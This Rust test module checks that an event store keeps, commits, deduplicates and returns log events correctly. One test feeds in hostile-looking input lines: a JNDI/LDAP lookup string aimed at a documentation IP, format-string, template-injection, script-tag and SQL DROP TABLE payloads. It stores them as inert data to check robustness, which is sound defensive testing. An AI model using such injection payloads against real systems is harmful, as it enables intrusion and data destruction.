//! What is stored, when, and that it stays.

use std::time::Duration;

use model::{Event, EventId, Timestamp};
use store_events::{EventQuery, EventStoreError, Order, PageRequest};

use super::Backend;
use super::make::{event, found, full, line, pages, parsed, store};

pub(crate) async fn every_field_comes_back<B: Backend>() {
    let backend = B::new();
    let events: Vec<_> = (1..20).map(full).chain([event(20)]).collect();
    let opened = backend.open().await;
    store(&*opened, events.clone()).await;
    opened.close().await;

    let opened = backend.open().await;
    let read = pages(&*opened, &EventQuery::default(), Order::OldestFirst, 100).await;
    let mut expected = events.clone();
    expected.sort_by_key(|event| (event.time, event.id));
    assert_eq!(read, expected);
    assert_eq!(opened.get(events[3].id).await.unwrap().as_ref(), Some(&events[3]));
    assert_eq!(opened.get(EventId::new(3, 1)).await.unwrap(), None);
    let ids = [events[7].id, EventId(u64::MAX), events[2].id, events[7].id, EventId(0)];
    let read = opened.get_many(&ids).await.unwrap();
    assert_eq!(read, [events[2].clone(), events[7].clone()]);
}

pub(crate) async fn nothing_is_found_before_it_is_committed<B: Backend>() {
    let backend = B::new();
    let opened = backend.open().await;
    opened.append(vec![event(1)]).await.unwrap();
    assert_eq!(opened.count(&EventQuery::default()).await.unwrap(), 0);
    assert_eq!(opened.get(event(1).id).await.unwrap(), None);
    opened.commit(1).await.unwrap();
    assert_eq!(opened.count(&EventQuery::default()).await.unwrap(), 1);
    assert_eq!(opened.get(event(1).id).await.unwrap(), Some(event(1)));
}

pub(crate) async fn events_handed_in_again_are_ignored<B: Backend>() {
    let backend = B::new();
    let opened = backend.open().await;
    let part = |number, part| Event { id: EventId::new(number, part), ..event(number) };
    store(&*opened, vec![event(1), event(2), part(2, 1)]).await;
    // Committed, appended only, and both in one batch.
    opened.append(vec![event(2), part(2, 1), part(2, 2), event(3)]).await.unwrap();
    opened.append(vec![event(1), event(2), part(2, 2), event(3), event(4)]).await.unwrap();
    opened.commit(4).await.unwrap();
    let expected = [(1, 0), (2, 0), (2, 1), (2, 2), (3, 0), (4, 0)];
    let ids = |events: Vec<Event>| {
        events.iter().map(|event| (event.id.record(), event.id.part())).collect::<Vec<_>>()
    };
    let all = EventQuery::default();
    assert_eq!(ids(pages(&*opened, &all, Order::OldestFirst, 2).await), expected);
    opened.close().await;

    let opened = backend.open().await;
    store(&*opened, (1..5).map(event).collect()).await;
    assert_eq!(ids(pages(&*opened, &all, Order::OldestFirst, 100).await), expected);
}

pub(crate) async fn the_position_is_kept_with_the_events<B: Backend>() {
    let backend = B::new();
    let opened = backend.open().await;
    assert_eq!(opened.position(), 0);
    for number in 1..4 {
        opened.append(vec![event(number)]).await.unwrap();
        assert_eq!(opened.position(), (number - 1) * 10);
        opened.commit(number * 10).await.unwrap();
        assert_eq!(opened.position(), number * 10);
    }
    opened.append(vec![event(77)]).await.unwrap();
    opened.close().await;
    let opened = backend.open().await;
    assert_eq!(opened.position(), 30);
    assert_eq!(found(&*opened, "*").await, [1, 2, 3]);
}

pub(crate) async fn a_position_without_events_is_kept<B: Backend>() {
    let backend = B::new();
    let opened = backend.open().await;
    opened.commit(7).await.unwrap();
    opened.append(Vec::new()).await.unwrap();
    opened.commit(8).await.unwrap();
    opened.close().await;
    let opened = backend.open().await;
    assert_eq!(opened.position(), 8);
    assert_eq!(opened.count(&EventQuery::default()).await.unwrap(), 0);
    store(&*opened, vec![event(9)]).await;
    assert_eq!(found(&*opened, "*").await, [9]);
}

pub(crate) async fn what_was_not_committed_is_gone_after_a_drop<B: Backend>() {
    let backend = B::new();
    let opened = backend.open().await;
    store(&*opened, vec![event(1)]).await;
    opened.append(vec![event(2)]).await.unwrap();
    drop(opened);
    let opened = backend.open().await;
    assert_eq!(opened.position(), 1);
    assert_eq!(found(&*opened, "*").await, [1]);
    store(&*opened, vec![event(1), event(2), event(3)]).await;
    assert_eq!(found(&*opened, "*").await, [1, 2, 3]);
}

pub(crate) async fn a_closed_store_answers_so<B: Backend>() {
    let backend = B::new();
    let opened = backend.open().await;
    opened.close().await;
    opened.close().await;
    let all = EventQuery::default();
    for result in [
        opened.append(vec![event(1)]).await,
        opened.commit(1).await,
        opened.get(EventId(1)).await.map(drop),
        opened.search(&all, &PageRequest::default()).await.map(drop),
        opened.count(&all).await.map(drop),
        opened.histogram(&all, Duration::from_secs(1), None).await.map(drop),
        opened.statistics().await.map(drop),
        opened.retain(None, None, Timestamp::NEVER).await.map(drop),
    ] {
        assert!(matches!(result, Err(EventStoreError::Closed)), "{result:?}");
    }
}

pub(crate) async fn hostile_lines_are_kept_as_they_are<B: Backend>() {
    let backend = B::new();
    let lines: Vec<String> = vec![
        "a".repeat(1 << 20),
        "word ".repeat(200_000),
        "\u{0}\u{1}\u{7f}\u{1b}]0;title\u{7} \r\n\t".into(),
        "${jndi:ldap://192.0.2.66/a} %s%n%x {{7*7}} <script>alert(1)</script> '; DROP TABLE--"
            .into(),
        "\u{feff}\u{202e}txet \u{fffd} 日本語 \u{1f4a9}".into(),
        String::new(),
        "é".repeat(70_000),
        "1.2.3.4.".repeat(50_000),
        "\"\\\"*?():".into(),
    ];
    let events = (1..).zip(&lines).map(|(number, raw)| {
        let mut event = line(number, raw);
        event.texts.set(model::TextField::Userdata1, raw);
        Event { source: raw.as_str().into(), interface: raw.as_str().into(), ..event }
    });
    let events: Vec<_> = events.collect();
    let opened = backend.open().await;
    store(&*opened, events.clone()).await;
    opened.close().await;

    let opened = backend.open().await;
    let read = pages(&*opened, &EventQuery::default(), Order::OldestFirst, 3).await;
    assert!(read == events, "lines come back as they were");
    for (query, records) in [
        ("jndi", vec![4]),
        ("\"192.0.2.66\"", vec![4]),
        ("\"drop table\"", vec![4]),
        ("word", vec![2]),
        ("userdata1:*日本語*", vec![5]),
        ("-has:raw", vec![6, 9]),
        ("a*", vec![1, 4]),
    ] {
        let found = found(&*opened, query).await;
        assert!(records.iter().all(|record| found.contains(record)), "{query}: {found:?}");
        let reference = events.iter().filter(|event| parsed(query).matches(event));
        let reference: Vec<_> = reference.map(|event| event.id.record()).collect();
        assert_eq!(found, reference, "{query}");
    }
}

pub(crate) async fn dates_from_broken_clocks_are_kept<B: Backend>() {
    let backend = B::new();
    let opened = backend.open().await;
    let times = [0, -1, i64::MIN, i64::MAX, 253_402_300_800_000_000, 1, 1_795_255_200_000_000];
    let events: Vec<_> = (1..)
        .zip(times)
        .map(|(number, time)| Event { time: Timestamp::from_micros(time), ..event(number) })
        .collect();
    for event in &events {
        store(&*opened, vec![event.clone()]).await;
    }
    let mut expected = events.clone();
    expected.sort_by_key(|event| event.time);
    let all = EventQuery::default();
    assert_eq!(pages(&*opened, &all, Order::OldestFirst, 2).await, expected);
    expected.reverse();
    assert_eq!(pages(&*opened, &all, Order::NewestFirst, 2).await, expected);
    let bars = opened.histogram(&all, Duration::from_secs(3600), None).await.unwrap();
    assert_eq!(bars.iter().map(|bar| bar.events).sum::<u64>(), 7);
    // Whatever their dates: they arrived on one day.
    assert!(opened.statistics().await.unwrap().partitions.len() == 1);
    // Our own clock can be broken, too.
    let arrived = [i64::MIN, i64::MAX, 0, -1, 1 << 60];
    for (number, received_at) in (8..).zip(arrived) {
        let received_at = Timestamp::from_micros(received_at);
        store(&*opened, vec![Event { received_at, ..event(number) }]).await;
    }
    assert_eq!(opened.count(&all).await.unwrap(), 12);
}

pub(crate) async fn one_commit_is_seen_as_a_whole<B: Backend>() {
    let backend = B::new();
    let opened: std::sync::Arc<dyn store_events::EventStore> = backend.open().await.into();
    let writer = tokio::spawn({
        let opened = opened.clone();
        async move {
            for batch in 0..20 {
                // Two days in each commit.
                let events = (0..10).map(|n| {
                    let received_at = super::make::at(batch * 86_400 + n / 5 * 86_400);
                    Event { received_at, ..event((batch * 10 + n + 1) as u64) }
                });
                store(&*opened, events.collect()).await;
            }
        }
    });
    while !writer.is_finished() {
        let count = opened.count(&EventQuery::default()).await.unwrap();
        assert_eq!(count % 10, 0, "part of a commit");
    }
    writer.await.unwrap();
    assert_eq!(opened.count(&EventQuery::default()).await.unwrap(), 200);
}
